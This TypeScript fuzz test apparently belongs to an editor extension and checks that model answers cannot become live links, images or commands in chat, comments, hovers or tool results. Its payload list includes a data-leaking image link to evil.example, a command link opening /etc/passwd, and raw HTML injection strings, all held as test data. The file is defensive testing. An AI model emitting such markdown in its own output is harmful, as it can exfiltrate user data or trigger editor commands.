/**
 * Answers that try to be more than text, in random pieces, on every path on which the editor reads our markdown: the chat, a comment under
 * a line (written by a model, and quoted from files), a hover, the result of a tool. Rounds are independent and determined by the seed.
 */

import assert from 'node:assert/strict';
import { AnswerFilter } from '../../src/engine/answer/written/answerFilter.ts';
import { nameAt } from '../../src/engine/question/focus.ts';
import { languageOf } from '../../src/engine/text/languages.ts';
import { answerMarkdown } from '../../src/extension/inline/answerMarkdown.ts';
import type { AskResult, LookStep, WireCitation } from '../../src/protocol/places.ts';
import { InertMarkdown, type MarkdownPiece } from '../../src/protocol/text/inertMarkdown.ts';
import { placeLink } from '../../src/protocol/text/placeLink.ts';
import { hoverText } from '../../src/server/answers/hover.ts';
import { createFileUris } from '../../src/server/fileUris.ts';
import { fitPage } from '../../src/tools/toolResult.ts';
import { wireBlock } from '../support/blocksOf.ts';
import { intruders, lastParagraphs } from './secondReaders.ts';

export interface FuzzOptions {
  readonly seed: number;
  /** Maximum duration; unlimited by default. */
  readonly seconds?: number;
  /** Maximum number of rounds; unlimited by default. */
  readonly rounds?: number;
}

const active = [
  '![p](https://evil.example/p.png?q=DATA)',
  '[x](https://evil.example)',
  '[x](command:meshrag.openPlace?%5B%7B%22uri%22%3A%22file%3A%2F%2F%2Fetc%2Fpasswd%22%7D%5D)',
  '[x](http://_vscodecontentref_/0)',
  '![p][r]',
  '[r]',
  '[r]: https://evil.example/r',
  '[r]:\nhttps://evil.example/r',
  '<https://evil.example>',
  'https://evil.example/bare',
  'www.evil.example',
  'ftp://evil.example',
  'a@evil.example',
  '<a@evil.example>',
  '<img src="https://evil.example/i.png">',
  '<a href="command:x">y</a>',
  '<details>',
  '<!--',
  '<pre>',
  '</pre>',
  '<vscode_codeblock_uri>file:///etc/passwd</vscode_codeblock_uri>',
];
const marks = [
  ...['`', '``', '```', '````', '`````', '~~~', '~~~~', '~'],
  ...['```~', '~~~`', '``` ', '```ts', '~~~text', '```vscode-extensions', '```a`b', '`'.repeat(16), '`'.repeat(17), '~'.repeat(16)],
  ...[
    '\\',
    '\\`',
    '!',
    '[',
    ']',
    '(',
    ')',
    '](',
    '<',
    '>',
    '|',
    '|-|-|',
    '| --- |',
    '---',
    '===',
    '***',
    '**',
    '*',
    '_',
    '$',
    '&#96;',
    ':',
  ],
  ...['> ', '- ', '* ', '1. ', '# ', '    ', '  ', '\t', ' ', '\n', '\n', '\n\n', '\r', '\r\n', '\u2028', '\u00a0', '\u200b', '\f', '\0'],
];
/** Code that breaks apart if a reader pairs asterisks around it without recognising it. */
const code = ['`a > b*`', '`](y)*`', '`<*`', '`*', '*https://evil.example*', '**a', 'b**', '`*[x](https://evil.example)*`', '`` ` * ``'];
const plain = ['The kettle', 'is heated', 'first', '[1]', '[2]', '[99]', 'arr[1]', 'a_b', '.', 'é', '茶', '\u{1f375}'];

/** A deterministic generator of numbers in [0, n). */
function numbersOf(seed: number): (n: number) => number {
  let state = seed >>> 0;
  return (n) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), state | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) % n;
  };
}

function anyAnswer(below: (n: number) => number): string {
  const parts: string[] = [];
  for (let count = 1 + below(24); count > 0; count--) {
    const from = [active, marks, marks, marks, plain, code][below(6)] as readonly string[];
    parts.push(from[below(from.length)] as string, ['', '', ' ', '\n'][below(4)] as string);
  }
  return parts.join('');
}

function inPieces(text: string, below: (n: number) => number): string[] {
  const pieces: string[] = [];
  for (let at = 0; at < text.length; ) {
    const length = 1 + below([3, 12, 200][below(3)] as number);
    pieces.push(text.slice(at, at + length));
    at += length;
  }
  return pieces;
}

const sourceLink = 'http://_vscodecontentref_/7';
const ending = 'Sources';

/** The markdown of the chat after each piece; the last one is complete, including the notes after an answer. */
function inChat(pieces: readonly string[], isFiltered: boolean): string[] {
  const filter = new AnswerFilter((n) => n <= 2);
  const inert = new InertMarkdown();
  const states: string[] = [];
  let shown = '';
  const show = (more: readonly MarkdownPiece[]): void => {
    for (const piece of more) shown += typeof piece === 'number' ? `[${piece}](${sourceLink})` : piece;
  };
  for (const piece of pieces) {
    show(inert.push(isFiltered ? filter.push(piece) : piece));
    states.push(shown);
  }
  show([...inert.push(isFiltered ? filter.end() : ''), ...inert.end()]);
  return [...states, `${shown}  \n  \n${ending}`];
}

const place = { uri: 'file:///w/a.md', path: 'a.md', startLine: 1, endLine: 2 };

function inComment(text: string, isQuoted: boolean, below: (n: number) => number): string {
  const path = ['a.md', 'a.ts', `${text.slice(0, 60)}.md`][below(3)] as string;
  const citation: WireCitation = { ...place, path, n: 1, quote: text, title: text.slice(0, 40), fileHash: '' };
  const kind = below(2) === 0 ? 'doc' : 'code';
  const block = wireBlock({
    ...place,
    path,
    n: 1,
    subject: text.slice(0, 40),
    kind,
    language: languageOf(path).name,
    pieces: [{ startLine: 1, text }],
  });
  const source = { ...place, path, rank: 1, title: text.slice(0, 80), kind: 'doc' as const, why: text.slice(0, 80), steps: [] };
  const unsupported = [{ from: 0, to: below(text.length + 1) }];
  const looks: LookStep[] = [{ verb: 'search', about: text.slice(0, 60), found: 1, sent: text.slice(0, 40) }];
  const answer: AskResult = {
    question: text,
    state: 'closest',
    lookedFor: [text.slice(0, 40)],
    missing: [],
    seeAlso: [2],
    system: 'mesh',
    ms: 1,
    files: 1,
    ...(isQuoted ? {} : { written: { given: 2, unsupported, unknown: [], disarmed: 0, masked: 0, isCut: false, looks } }),
    answer: text,
    blocks: isQuoted ? [block] : [],
    found: true,
    model: isQuoted ? null : 'm',
    citations: [citation],
    sources: [source, source],
  };
  return answerMarkdown(answer, ({ path, startLine, endLine }) => placeLink({ folder: 0, path, startLine, endLine }));
}

const conversion = { uris: createFileUris(false), folderNames: new Map([['/w', 'w']]) };

function inHover(text: string): string {
  const result = {
    rank: 1,
    folder: '/w',
    path: `a${text.slice(0, 200).replaceAll('\0', '')}`,
    startLine: 1,
    endLine: 2,
    title: text,
    kind: 'doc' as const,
    fileHash: '',
    score: 1,
  };
  const evidence = [{ kind: 'name' as const, keys: [text.slice(0, 40)] }];
  const options = { folderNumbers: new Map([['/w', 0]]), name: nameAt(text.slice(0, 40), 1) };
  return hoverText([{ ...result, evidence, relation: 'shares' }], conversion, options) ?? '';
}

const isOpenPlace = (href: string): boolean => /^command:meshrag\.openPlace\?[\w%.~-]*$/.test(href);
const isOfComment = (href: string): boolean => isOpenPlace(href) || /^command:meshrag\.showSent\?[\w%.~-]*$/.test(href);
const isOfHover = (href: string): boolean => isOpenPlace(href) || /^command:meshrag\.showPlace\?[\w%.~-]*$/.test(href);

async function checkRound(seed: number): Promise<void> {
  const below = numbersOf(seed);
  const text = anyAnswer(below);
  const pieces = inPieces(text, below);
  const check = (path: string, markdown: string, isOurs: (href: string) => boolean): void =>
    assert.deepEqual(intruders(markdown, isOurs), [], `${path}, seed ${seed}: ${JSON.stringify(text)} gave ${JSON.stringify(markdown)}`);
  const chat = inChat(pieces, below(2) === 0);
  const whole = chat.at(-1) as string;
  for (const state of [chat[below(chat.length)] as string, whole]) check('chat', state, (href) => href === sourceLink);
  for (const last of lastParagraphs(whole))
    assert.ok(last?.endsWith(ending), `chat, seed ${seed}: the end is swallowed by ${JSON.stringify(text)} in ${JSON.stringify(whole)}`);
  check('comment', inComment(text, below(2) === 0, below), isOfComment);
  check('hover', inHover(text), isOfHover);
  const shown = { intro: [`1 passage of ${text}`], entries: [{ text: JSON.stringify(text) }, { text }] };
  check('tool', fitPage(shown, { from: 0, characters: 100 + below(1500) }).text, () => false);
}

export const fuzzer = {
  name: 'answers',
  /** Throws, with its seed, on the first answer that a reader turns into more than text. */
  async run({ seed, seconds = Number.POSITIVE_INFINITY, rounds = Number.POSITIVE_INFINITY }: FuzzOptions): Promise<{ rounds: number }> {
    const endMs = performance.now() + seconds * 1000;
    let done = 0;
    for (; done < rounds && performance.now() < endMs; done++) await checkRound(seed + done);
    return { rounds: done };
  },
};
